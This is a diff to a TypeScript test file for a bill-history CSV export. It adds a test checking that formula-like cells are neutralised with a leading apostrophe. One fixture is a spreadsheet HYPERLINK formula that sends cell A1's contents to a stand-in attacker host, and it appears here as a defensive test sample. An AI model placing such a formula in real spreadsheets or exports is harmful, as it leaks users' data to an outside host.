@@ -2,7 +2,7 @@ import { parse } from "csv-parse/sync";
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 
-import { csvColumns, exportCsv } from "./csv";
+import { csvColumns, exportCsv, spreadsheetCell } from "./csv";
 import type { BillDetail, StatusEventOut } from "./schema";
 
 // The export must survive a real CSV parser (csv-parse) unchanged, whatever the text holds:
@@ -82,7 +82,15 @@ describe("exportCsv", () => {
     expect(rows[0]).toMatchObject({ bill_slug: "a-bill", event_id: "", occurred_on: "" });
   });
 
-  it("round-trips any text through csv-parse unchanged", () => {
+  it("neutralises cells a spreadsheet would run as a formula, and nothing else", () => {
+    const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"];
+    const rows = parseExport(exportCsv([bill({ title: formulas[0], history: formulas.map((text) => event(text, null)) })]));
+    expect(rows.map((row) => row.description)).toEqual(formulas.map((text) => `'${text}`));
+    expect(rows[0]?.bill_title).toBe(`'${formulas[0]}`);
+    expect(spreadsheetCell("Passed 409–2 = a majority")).toBe("Passed 409–2 = a majority");
+  });
+
+  it("round-trips any other text through csv-parse unchanged", () => {
     fc.assert(
       fc.property(
         fc.array(fc.tuple(fc.string({ unit: "grapheme", maxLength: 40 }), fc.option(fc.string({ unit: "binary", maxLength: 40 }))), {
@@ -91,6 +99,8 @@ describe("exportCsv", () => {
         }),
         fc.string({ unit: "grapheme-composite", maxLength: 30 }),
         (events, title) => {
+          // Formula-like cells are changed on purpose (the test above).
+          fc.pre([title, ...events.flat()].every((text) => text === null || spreadsheetCell(text) === text));
           const rows = parseExport(exportCsv([bill({ title, history: events.map(([description, note]) => event(description, note)) })]));
           expect(rows.map((row) => [row.description, row.note === "" ? null : row.note])).toEqual(
             events.map(([description, note]) => [description, note === "" ? null : note]),
